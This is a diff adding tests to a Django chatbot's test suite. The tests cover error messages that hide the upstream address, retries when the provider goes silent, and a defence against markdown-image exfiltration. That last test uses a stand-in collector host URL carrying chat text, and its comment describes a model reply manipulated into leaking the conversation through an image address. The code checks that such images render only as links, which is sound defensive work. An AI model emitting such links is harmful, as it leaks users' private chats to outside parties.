@@ -112,6 +112,9 @@ def test_a_failure_before_any_token_keeps_the_message_and_charges_nothing(
 
     assert response.status_code == status
     assert response.json()["code"] == code
+    # The user is told what failed, never where: no address of the upstream in the answer or the reply.
+    assert "127.0.0.1" not in response.json()["detail"]
+    assert ChatMessage.objects.get(message_type="assistant").error_detail == response.json()["detail"]
     user_message = ChatMessage.objects.get(message_type="user")
     assert user_message.content == "Are you there?" and not user_message.disabled
     reply = ChatMessage.objects.get(message_type="assistant")
@@ -131,6 +134,7 @@ def test_a_refused_connection_is_502(api_client, user, chatbot, refused_base_url
     response = send(api_client, session)
 
     assert response.status_code == 502
+    assert response.json()["detail"] == "Could not reach the AI provider."
     assert ChatMessage.objects.filter(message_type="user").count() == 1
     assert UsageEvent.objects.get().state == UsageEvent.State.RELEASED
 
@@ -343,3 +347,34 @@ def wait_for(condition, timeout=10.0):
     while not condition():
         assert time.monotonic() < deadline, "condition not met in time"
         time.sleep(0.02)
+
+
+def test_a_remote_image_in_a_reply_or_a_message_loads_nothing(api_client, session, upstream):
+    # A reply talked into hiding the chat in an image address: the page would fetch it as it opens.
+    leak = "https://collector.example/p.png?chat=secret+words"
+    upstream.enqueue_text(f"Sure! ![status]({leak}) and ours: ![plot](/media/generated/{session.pk}/a.png)")
+
+    events = events_only(parse_events(send(api_client, session, f"Look: ![me]({leak})", stream=True).streaming_content))
+
+    html = next(e for e in events if e.event == "assistant_message").data["content_html"]
+    ours = f'<img src="/media/generated/{session.pk}/a.png" alt="plot">'
+    assert ours in html
+    assert "<img" not in html.replace(ours, ""), html
+    assert f'<a href="{leak}" rel="noopener noreferrer nofollow">status</a>' in html  # followed only on purpose
+    page = api_client.get(f"/chat/{session.pk}/").content.decode()
+    assert "collector.example" in page  # the message and the reply are there, as links
+    assert 'src="https://collector.example' not in page
+    assert ours in page
+
+
+def test_an_upstream_silent_after_its_headers_is_tried_again(api_client, session, upstream, settings):
+    settings.AI_TIMEOUT = 0.3
+    upstream.enqueue_silent(3)
+    upstream.enqueue_text("Here now.", usage=(5, 2))
+
+    response = send(api_client, session)
+
+    assert response.status_code == 201, response.content
+    assert response.json()["assistant_message"]["content"] == "Here now."
+    assert len(chat_requests(upstream)) == 2
+    assert UsageEvent.objects.get().state == UsageEvent.State.SETTLED
